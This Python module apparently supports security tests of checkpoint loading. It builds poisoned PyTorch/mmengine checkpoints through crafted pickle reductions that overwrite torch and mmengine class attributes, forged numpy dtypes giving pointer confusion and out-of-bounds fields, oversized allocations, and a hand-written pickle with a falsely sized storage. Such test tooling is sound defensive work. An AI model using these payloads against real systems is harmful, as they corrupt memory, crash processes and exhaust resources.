"""Checkpoints that change the running process, crash it, or take its memory.

None of them names a function that is not needed for a genuine checkpoint: they reach
further by way of those that are.
"""

from __future__ import annotations

import os
import pickle
import struct
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import torch
from mmengine.logging import HistoryBuffer

from .planted import Call

GIB = 1 << 30
MULTIARRAY = getattr(np, '_core', None) or np.core


def buffer(**attributes: Any) -> HistoryBuffer:
    """A log buffer with attributes of any kind."""
    result = HistoryBuffer([1.0], [1])
    result.__dict__.update(attributes)
    return result


def set_attribute(owner: Any, name: str, value: Any) -> Call:
    """Have torch set an attribute of a class, which it takes for a tensor.

    ``HistoryBuffer.current`` gives back the last thing that a buffer holds, whatever
    it is, so it makes a buffer out of a buffer and the class out of another.
    """
    as_class = buffer(_log_history=[owner])
    fake = buffer(as_subclass=HistoryBuffer.current)
    holder = buffer(_log_history=[fake])
    return Call(
        torch._tensor._rebuild_from_type_v2,
        *(HistoryBuffer.current, as_class, (holder,), {name: value}),
    )


class Stated:
    """Pickles to a call whose result is then given a state."""

    def __init__(self, function: Any, args: tuple, state: Any) -> None:
        self.parts = function, args, state

    def __reduce__(self) -> tuple:
        return self.parts


def dtype_with(spec: str, *state: Any) -> Stated:
    """A numpy type whose state says what the file wants."""
    return Stated(np.dtype, (spec, False, True), state)


def object_array() -> Stated:
    """Numbers that numpy is to take for pointers."""
    flags = dtype_with('f8', 3, '<', None, None, None, 8, 8, 63)
    content = struct.pack('<2Q', 0x41414141, 0x42424242)
    state = (1, (2,), flags, False, content)
    start = (np.ndarray, (0,), b'b')
    return Stated(MULTIARRAY.multiarray._reconstruct, start, state)


def field_array() -> Stated:
    """Fields that lie outside of the array's bytes."""
    fields = {'x': (np.dtype('i8'), 1 << 30)}
    kind = dtype_with('f8', 3, '<', None, ('x',), fields, 8, 8, 0)
    start = (np.ndarray, (0,), b'b')
    state = (1, (1,), kind, False, b'\0' * 8)
    return Stated(MULTIARRAY.multiarray._reconstruct, start, state)


def sub_array() -> Stated:
    """A type that repeats another more often than there are bytes."""
    inner = (np.dtype('i8'), (1 << 20,))
    kind = dtype_with('f8', 3, '<', inner, None, None, 8, 8, 0)
    start = (np.ndarray, (0,), b'b')
    state = (1, (1,), kind, False, b'\0' * 8)
    return Stated(MULTIARRAY.multiarray._reconstruct, start, state)


def repeated_element() -> torch.Tensor:
    """A tensor of 4 GiB in four bytes."""
    return torch.zeros(1).expand(GIB)


# By name: what it reaches, and what is put into a checkpoint.
POISONS = {
    'buffer-mean': lambda: set_attribute(HistoryBuffer, 'mean', 'gone'),
    'tensor-to': lambda: set_attribute(torch.Tensor, 'to', torch.Size),
    'parameter-repr': lambda: set_attribute(torch.nn.Parameter, '__repr__', set),
    'statistics': lambda: buffer(_statistics_methods={'mean': torch.Size}),
    'pointers': object_array,
    'fields': field_array,
    'sub-array': sub_array,
    'bytearray': lambda: Call(bytearray, 8 * GIB),
    'tensor-type': lambda: Call(torch.FloatTensor, 2 * GIB),
    'repeated': repeated_element,
}


def poison(checkpoint: str | Path, into: Path, name: str) -> None:
    """Copy a checkpoint with a poison added to it."""
    content = torch.load(checkpoint, weights_only=False)
    hub = content.setdefault('message_hub', {})
    hub.setdefault('runtime_info', {})['poison'] = POISONS[name]()
    torch.save(content, into)


def archive(pickled: bytes, storages: dict[str, bytes], into: Path) -> None:
    """An archive as ``torch.save`` writes it, of any pickle."""
    with zipfile.ZipFile(into, 'w') as file:
        file.writestr('a/data.pkl', pickled)
        for key, content in storages.items():
            file.writestr(f'a/data/{key}', content)
        file.writestr('a/version', '3\n')


def claimed_storage(into: Path, numel: int) -> None:
    """An archive with a storage of 4 bytes that claims more elements."""
    content = pickle.dumps({'state_dict': {'w': 'HERE'}}, protocol=2)
    storage = (
        b'(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000'
        b'X\x03\x00\x00\x00cpu\x8a\x08' + struct.pack('<q', numel) + b'tQ'
    )
    size = b'\x8a\x08' + struct.pack('<q', numel) + b'\x85'
    tensor = (
        b'ctorch._utils\n_rebuild_tensor_v2\n(' + storage + b'K\x00' + size + b'K\x01'
        b'\x85\x89ccollections\nOrderedDict\n)RtR'
    )
    here = content.index(b'X\x04\x00\x00\x00HERE')
    content = content[:here] + tensor + content[here + 9 + 2 :]
    archive(content, {'0': b'\0' * 4}, into)


def resident() -> int:
    """Bytes of memory that this process has been given by the system, at most."""
    with open(f'/proc/{os.getpid()}/status') as file:
        (line,) = (line for line in file if line.startswith('VmHWM'))
    return int(line.split()[1]) * 1024
